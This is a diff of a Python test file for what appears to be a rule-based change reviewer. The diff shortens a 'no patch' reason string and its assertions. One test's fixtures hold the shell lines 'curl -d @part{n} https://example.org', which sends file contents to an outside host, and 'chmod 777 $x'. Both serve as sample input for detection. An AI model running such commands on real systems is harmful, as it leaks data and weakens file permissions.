@@ -77,11 +77,11 @@ def test_with_no_time_at_all_every_file_is_left_to_a_person() -> None:
 
 
 def test_a_change_without_a_patch_is_left_to_a_person_until_the_file_is_changed_again() -> None:
-    unread = Unread(paths=("data/dump.csv",), files=3, lines=70_000, why="there is no patch", mark="tree-1")
+    unread = Unread(paths=("data/dump.csv",), files=3, lines=70_000, why="no patch", mark="tree-1")
     (item,) = read(new_file("a.py", "x = 1"), unread=unread)
     (other,) = read(unread=unread._replace(mark="tree-2"))
     assert (item.rule, item.verdict, item.where) == ("change_not_read", Verdict.ASK, "data/dump.csv")
-    assert item.evidence.startswith("1 of 70001 changed lines were read by the rules: there is no patch")
+    assert item.evidence.startswith("1 of 70001 changed lines were read by the rules: no patch")
     assert item.fingerprint != other.fingerprint, "a yes is for this content only"
     assert still_stands(item, Change(files=read_patch(new_file("b.py", "y = 1"))))
     assert not still_stands(item, Change(files=read_patch(changed_file("data/dump.csv", ["a"], ["b"]))))
@@ -91,7 +91,7 @@ def test_a_change_without_a_patch_is_left_to_a_person_until_the_file_is_changed_
 
 
 def test_a_flood_of_other_questions_does_not_push_out_that_something_was_not_read() -> None:
-    unread = Unread(paths=("dump.csv",), files=1, lines=9, why="there is no patch")
+    unread = Unread(paths=("dump.csv",), files=1, lines=9, why="no patch")
     flood = [new_file(f"a{n}.sh", f"curl -d @part{n} https://example.org", "chmod 777 $x") for n in range(9)]
     tests = [changed_file(f"tests/test_a{n}.py", [f"def test_a{n}(): pass"], []) for n in range(9)]
     assert "change_not_read" in {item.rule for item in read(*flood, *tests, unread=unread)}
